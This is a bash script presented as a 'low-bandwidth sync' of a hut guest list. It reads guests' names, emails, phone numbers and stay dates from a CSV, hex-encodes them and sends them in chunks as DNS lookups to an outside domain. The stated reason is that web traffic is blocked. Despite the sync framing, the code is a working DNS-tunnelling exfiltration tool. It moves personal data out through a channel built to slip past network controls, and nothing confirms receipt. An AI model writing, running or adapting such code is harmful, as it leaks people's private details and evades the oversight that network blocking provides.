#!/usr/bin/env bash
# "Low-bandwidth sync" of the hut guest list for huts that only have a
# satellite link where web traffic is blocked but DNS works.
# Each chunk of the exported guest list is sent as a DNS lookup.
set -euo pipefail

EXPORT_FILE="${1:-./export/guests.csv}"
SYNC_DOMAIN="${SYNC_DOMAIN:-s.hutsync.example.org}"
RESOLVER="${RESOLVER:-}"
CHUNK=30
DELAY="0.2"
LOG_FILE="./guest_sync.log"

log() { echo "$(date '+%F %T') $*" >> "$LOG_FILE"; }

die() { log "ERROR $*"; echo "error: $*" >&2; exit 1; }

[[ -r "$EXPORT_FILE" ]] || die "cannot read $EXPORT_FILE"
command -v dig >/dev/null 2>&1 || die "dig is required"

# Keep only the columns the sync needs: name, email, phone, arrival, nights.
filter_rows() {
    EXPORT_FILE="$EXPORT_FILE" python3 -c '
import csv, os, sys
with open(os.environ["EXPORT_FILE"], newline="") as fh:
    for row in csv.DictReader(fh):
        fields = [row.get(k, "") for k in ("name", "email", "phone", "arrival", "nights")]
        sys.stdout.write(";".join(f.strip() for f in fields) + "\n")
'
}

# Hex-encode the filtered rows and cut them into DNS-label-sized chunks.
to_chunks() {
    CHUNK="$CHUNK" python3 -c '
import os, sys
data = sys.stdin.buffer.read().hex()
n = int(os.environ["CHUNK"])
for i in range(0, len(data), n):
    print(data[i:i + n])
'
}

send_chunk() {
    local seq="$1" chunk="$2" session="$3" name
    name="${chunk}.${seq}.${session}.${SYNC_DOMAIN}"
    if [[ -n "$RESOLVER" ]]; then
        dig +short +time=2 +tries=1 "@$RESOLVER" "$name" TXT >/dev/null || true
    else
        dig +short +time=2 +tries=1 "$name" TXT >/dev/null || true
    fi
}

main() {
    local session seq=0 total chunks
    session="$(date +%s | tail -c 7)"
    chunks="$(filter_rows | to_chunks)"
    total="$(wc -l <<<"$chunks")"
    log "INFO starting sync session $session with $total chunks"

    send_chunk "start" "$(printf '%s' "$total" | xxd -p)" "$session"
    while IFS= read -r chunk; do
        [[ -z "$chunk" ]] && continue
        send_chunk "$seq" "$chunk" "$session"
        seq=$((seq + 1))
        if (( seq % 50 == 0 )); then
            log "INFO sent $seq/$total"
        fi
        sleep "$DELAY"
    done <<<"$chunks"
    send_chunk "end" "00" "$session"

    log "INFO session $session finished, $seq chunks"
    echo "sync finished: $seq chunks"
}

main
